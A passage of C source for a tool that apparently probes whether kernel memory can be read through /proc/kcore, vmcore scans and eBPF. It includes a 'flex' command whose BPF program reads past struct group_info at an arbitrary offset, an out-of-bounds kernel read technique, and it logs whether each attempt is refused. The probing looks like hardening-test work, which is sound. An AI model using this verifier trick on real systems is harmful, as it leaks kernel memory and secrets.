	buf = malloc(SCAN_CHUNK + MAX_PATTERN + MAX_PATTERN);
	if (!buf)
		return fail("malloc");
	for (i = 0; i < r->k.n && !err; i++) {
		const Elf64_Phdr *p = &r->k.ph[i];

		if (p->p_type != PT_LOAD || p->p_paddr == (Elf64_Addr)-1 ||
		    p->p_vaddr >= 0xffffffff80000000ull)
			continue;
		err = scan_segment(name, &r->k, p, pat, plen, after, zeros, buf, &matches,
				   &nonzero);
		bytes += p->p_filesz;
	}
	free(buf);
	if (err)
		return -1;
	printf("memread: %s scan done mib=%" PRIu64 " matches=%u nonzero=%u\n", name,
	       bytes >> 20, matches, nonzero);
	return 0;
}

/* The command of a method. 0 when it ran, -1 on a failure, 2 usage. */
static int run_method(struct reader *r, int argc, char **argv)
{
	uint8_t pat[MAX_PATTERN];
	size_t len, plen, range, after, zeros = 0;
	uint64_t addr;

	if (argc == 3 && !strcmp(argv[2], "banner"))
		return cmd_banner(r) < 0 ? -1 : 0;
	if ((argc == 5 || argc == 6) && !r->bpf && !strcmp(argv[2], "scan")) {
		if (parse_pattern(argv[3], pat, &plen) || parse_len(argv[4], &after) ||
		    after > MAX_PATTERN || (argc == 6 && parse_len(argv[5], &zeros)) ||
		    zeros > MAX_PATTERN)
			return usage();
		return cmd_scan(r, r->name, pat, plen, after, zeros);
	}
	if (argc == 7 && !strcmp(argv[2], "find")) {
		if (parse_pattern(argv[4], pat, &plen) || parse_len(argv[5], &range) ||
		    parse_len(argv[6], &after))
			return usage();
		return cmd_find(r, argv[3], pat, plen, range, after) < 0 ? -1 : 0;
	}
	if (argc == 4 && !parse_addr(argv[2], &addr) && !parse_len(argv[3], &len))
		return cmd_read(r, addr, len) < 0 ? -1 : 0;
	return usage();
}

#define LDX_W(d, s, o)		INSN(BPF_LDX | BPF_MEM | BPF_W, d, s, o, 0)
#define STX_W(d, s, o)		INSN(BPF_STX | BPF_MEM | BPF_W, d, s, o, 0)
#define FLEX_READS		8

/*
 * r6 = bpf_get_current_task_btf()->cred->group_info (BTF pointers); key = 0 at fp - 4;
 * r0 = lookup(out, &key); for each i: out[4i] = *(u32 *)(r6 + OFF + 4i); return 0.
 * Every load through r6 is past the end of struct group_info, inside its gid[] as the
 * verifier sees it: wherever OFF points.
 */
static int cmd_flex(int cred, int groups, int off)
{
	struct bpf_insn insns[11 + 2 * FLEX_READS + 2] = {
		CALL(BPF_FUNC_get_current_task_btf),
		LDX_DW(BPF_REG_1, BPF_REG_0, (int16_t)cred),
		LDX_DW(BPF_REG_6, BPF_REG_1, (int16_t)groups),
		ST_W(BPF_REG_10, -4, 0),
		LD_MAP_FD(BPF_REG_1, 0),
		MOV_REG(BPF_REG_2, BPF_REG_10),
		ADD_IMM(BPF_REG_2, -4),
		CALL(BPF_FUNC_map_lookup_elem),
		JNE_IMM(BPF_REG_0, 0, 1),
		EXIT(),
	};
	uint8_t out[OUT_SIZE] = { 0 };
	uint8_t pkt[64] = { 0 };
	union bpf_attr attr;
	int map, prog, i, n = 11, e;

	if (off < 0 || off + 4 * FLEX_READS > 32767)
		return usage();
	map = map_create("flex", OUT_SIZE, 0);
	if (map < 0) {
		e = errno;
		printf("memread: flex refused step=map errno=%d (%s)\n", e, strerror(e));
		return 0;
	}
	insns[4].imm = map;
	for (i = 0; i < FLEX_READS; i++) {
		insns[n++] = LDX_W(BPF_REG_1, BPF_REG_6, (int16_t)(off + 4 * i));
		insns[n++] = STX_W(BPF_REG_0, BPF_REG_1, (int16_t)(4 * i));
	}
	insns[n++] = MOV_IMM(BPF_REG_0, 0);
	insns[n++] = EXIT();
	prog = load_insns(BPF_PROG_TYPE_SOCKET_FILTER, 0, 0, insns, (uint32_t)n, "flexread");
	if (prog < 0) {
		e = errno;
		printf("memread: flex refused step=load errno=%d (%s) log=%s\n", e, strerror(e),
		       log_reason(vlog));
		fprintf(stderr, "hibseal-memread: verifier log:\n%s\n", vlog);
		close(map);
		return 0;
	}
	memset(&attr, 0, sizeof(attr));
	attr.test.prog_fd = (uint32_t)prog;
	attr.test.data_in = ptr(pkt);
	attr.test.data_size_in = sizeof(pkt);
	attr.test.repeat = 1;
	if (sys_bpf(BPF_PROG_TEST_RUN, &attr) || map_op(BPF_MAP_LOOKUP_ELEM, map, out)) {
		e = errno;
		printf("memread: flex refused step=run errno=%d (%s)\n", e, strerror(e));
	} else {
		printf("memread: flex hex=");
		print_hex(out, 4 * FLEX_READS);
		printf("\n");
	}
	close(prog);
	close(map);
	return 0;
}

int main(int argc, char **argv)
{
	struct reader r = { .b = { -1, -1, -1, -1 }, .k = { .fd = -1 } };
	int ret;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc > 1 && !strcmp(argv[1], "--after-lift")) {
		ret = wait_lift();
		if (ret)
			return ret < 0 ? 1 : 0;
		argc--;
		argv++;
	}
	if (argc == 3 && !strcmp(argv[1], "sym"))
		return cmd_sym(argv[2]) ? 1 : 0;
	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "fexit") && argv[3][0] >= '0' &&
	    argv[3][0] <= '5' && !argv[3][1] && (argc == 4 || !strcmp(argv[4], "test_resume")))
		return cmd_fexit(argv[2], argv[3][0] - '0', argc == 5) ? 1 : 0;
	if (argc == 5 && !strcmp(argv[1], "flex"))
		return cmd_flex(atoi(argv[2]), atoi(argv[3]), atoi(argv[4])) ? 1 : 0;
	if ((argc == 5 || argc == 6) && !strcmp(argv[1], "vmcore") && !strcmp(argv[2], "scan")) {
		r.name = argv[1];
		return run_method(&r, argc, argv) < 0 ? 1 : 0;
	}
	if (argc < 3 || (strcmp(argv[1], "bpf") && strcmp(argv[1], "kcore")))
		return usage();
	r.name = argv[1];
	r.bpf = !strcmp(argv[1], "bpf");
	ret = run_method(&r, argc, argv);
	bpf_close(&r.b);
	kcore_close(&r.k);
	return ret < 0 ? 1 : ret;
}
